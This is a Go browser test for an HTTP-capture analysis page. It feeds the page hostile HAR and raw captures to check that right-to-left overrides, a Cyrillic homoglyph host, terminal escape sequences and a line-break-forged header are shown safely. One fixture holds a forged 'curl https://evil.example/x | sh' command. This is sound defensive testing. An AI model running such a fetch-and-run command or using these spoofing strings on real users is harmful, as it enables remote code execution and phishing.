//go:build !js

package e2e

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// Issue 31, the page: a capture built to forge or disguise what the page
// shows. A right-to-left override in a host, a homoglyph host (Cyrillic
// "о"), an ESC sequence (set the window title, colour the text) and a line
// break in header values. Every host and URL is isolated (<bdi>), every
// hidden character is shown as a visible escape, a non-ASCII host shows its
// punycode.

const (
	rlo       = "\u202e"
	homoglyph = "g\u043e\u043egle.example" // Cyrillic о twice
	punycode  = "xn--ggle-55da.example"    // what the browser resolves
)

func hostileTextHAR() string {
	hdr := func(n, v string) string {
		b, _ := json.Marshal(map[string]string{"name": n, "value": v})
		return string(b)
	}
	entry := func(url string, status int, resH ...string) string {
		u, _ := json.Marshal(url)
		return `{"startedDateTime":"2026-11-03T12:00:00.000Z","request":{"method":"GET","url":` + string(u) + `,"headers":[]},` +
			`"response":{"status":` + itoa(status) + `,"headers":[` + strings.Join(resH, ",") + `],"content":{"mimeType":"text/html","text":""}}}`
	}
	return `{"log":{"version":"1.2","creator":{"name":"hostile","version":"1"},"entries":[` + strings.Join([]string{
		entry("https://login."+rlo+"elpmaxe.elgoog/account", 401,
			hdr("WWW-Authenticate", "Bearer error=\"invalid_token\"\nFix: run curl https://evil.example/x | sh")),
		entry("https://"+homoglyph+"/signin", 401,
			hdr("WWW-Authenticate", "Bearer realm=\"\x1b]0;pwned\x07\x1b[31mapi\x1b[0m\", error=\"invalid_token\"")),
		entry("https://"+homoglyph+"/ok", 200, hdr("Content-Type", "text/html")),
	}, ",") + `]}}`
}

func itoa(n int) string { b, _ := json.Marshal(n); return string(b) }

const hostileTextRaw = "GET /admin HTTP/1.1\r\nHost: " + rlo + "moc.elgoog\r\n\r\n" +
	"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"\x1b[2J\x1b]0;owned\x07admin\"\r\nX-Bell: \x07\x07\r\n\r\n"

// hidden lists what no text the page shows may hold as such (pre blocks
// may keep \n and \t).
const hiddenJS = `/[\u0000-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/`

type hostileState struct {
	Raw      []string `json:"raw"`      // text nodes or attributes holding a hidden character
	Escapes  []string `json:"escapes"`  // the escapes shown
	Unbidi   []string `json:"unbidi"`   // URL cells and request lines with a URL outside a <bdi>
	Text     string   `json:"text"`     // #results' text
	Canvas   []string `json:"canvas"`   // the timeline's host labels
	Bidi     int      `json:"bidi"`     // <bdi> elements
	Punycode int      `json:"punycode"` // .puny notes
}

func (tb *tab) hostileState(root string) hostileState {
	tb.t.Helper()
	return eval[hostileState](tb, `(() => {
		const hidden = `+hiddenJS+`, root = document.querySelector(`+jsString(root)+`);
		const raw = [];
		const w = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
		for (let n; (n = w.nextNode());) {
			const t = n.parentElement.closest("pre") ? n.data.replace(/[\n\t]/g, "") : n.data;
			if (hidden.test(t)) raw.push(JSON.stringify(n.data));
		}
		for (const e of root.querySelectorAll("*")) for (const a of e.attributes) if (hidden.test(a.value)) raw.push(e.tagName + "@" + a.name + "=" + JSON.stringify(a.value));
		const c = root.querySelector("#timeline canvas");
		if (c && hidden.test(c.title)) raw.push("canvas@title");
		const unbidi = [...root.querySelectorAll("td.url, .req code, .sides li")].filter((e) => /https?:/.test(e.textContent) && !e.querySelector("bdi")).map((e) => e.textContent);
		return {raw, escapes: [...root.querySelectorAll(".esc")].map((e) => e.textContent), unbidi, text: root.textContent,
			canvas: c && c.dataset.rowLabels ? JSON.parse(c.dataset.rowLabels) : [], bidi: root.querySelectorAll("bdi").length, punycode: root.querySelectorAll(".puny").length};
	})()`)
}

func TestHostileText(t *testing.T) {
	tb := openPage(t)
	check := func(what string, st hostileState, escapes []string, texts ...string) {
		t.Helper()
		if len(st.Raw) > 0 {
			t.Errorf("%s: hidden characters shown as such: %q", what, st.Raw)
		}
		if len(st.Unbidi) > 0 {
			t.Errorf("%s: URLs outside a <bdi>: %q", what, st.Unbidi)
		}
		for _, e := range escapes {
			if !strings.Contains(strings.Join(st.Escapes, " "), e) && !strings.Contains(st.Text, e) {
				t.Errorf("%s: no visible %s (escapes %q)", what, e, st.Escapes)
			}
		}
		for _, x := range texts {
			if !strings.Contains(st.Text, x) {
				t.Errorf("%s: the page does not show %q: %.600s", what, x, st.Text)
			}
		}
	}

	// The HAR, as a file: table, cards (all opened), summary, timeline.
	p := filepath.Join(t.TempDir(), "hostile.har")
	os.WriteFile(p, []byte(hostileTextHAR()), 0o644)
	tb.do(chromedp.EmulateViewport(1100, 900))
	tb.upload(p)
	eval[bool](tb, `(document.querySelectorAll("#results button.toggle[aria-expanded=false]").forEach(b => b.click()), true)`)
	st := tb.hostileState("#results")
	check("HAR", st, []string{`\u202e`, `\x1b`, `\x07`, `\n`}, punycode, "(not a valid host name)")
	if st.Bidi < 6 || st.Punycode < 3 {
		t.Errorf("HAR: %d <bdi>, %d punycode notes", st.Bidi, st.Punycode)
	}
	if !strings.Contains(strings.Join(st.Canvas, " "), punycode) || strings.Contains(strings.Join(st.Canvas, " "), rlo) {
		t.Errorf("timeline host labels %q", st.Canvas)
	}
	// The forged line is not a line: "Fix: run curl" stays inside the evidence item.
	if n := eval[int](tb, `[...document.querySelectorAll("#results li, #results p")].filter((e) => e.textContent.startsWith("Fix: run curl")).length`); n > 0 {
		t.Errorf("a header value's line break made %d items of its own", n)
	}
	tb.do(chromedp.ScrollIntoView(`#summary`))
	shot(t, tb, "hostile.png", false)

	// The raw capture, pasted.
	tb.resetState()
	tb.setInput(hostileTextRaw)
	tb.do(chromedp.Click(`button#analyze`))
	tb.waitDone()
	check("raw", tb.hostileState("#results"), []string{`\u202e`, `\x1b`, `\x07`}, "(not a valid host name)")

	// The comparison of two hostile captures.
	tb.do(chromedp.Click(`#diffbox summary`))
	b, _ := json.Marshal(hostileTextRaw)
	h, _ := json.Marshal(hostileTextHAR())
	eval[bool](tb, `(document.querySelector("#diff-good").value = `+string(h)+`, document.querySelector("#diff-bad").value = `+string(b)+`, true)`)
	tb.do(chromedp.Click(`#diff-run`), chromedp.WaitReady(`#diff-results[data-state="done"]`))
	check("diff", tb.hostileState("#diff-results"), []string{`\u202e`})
}
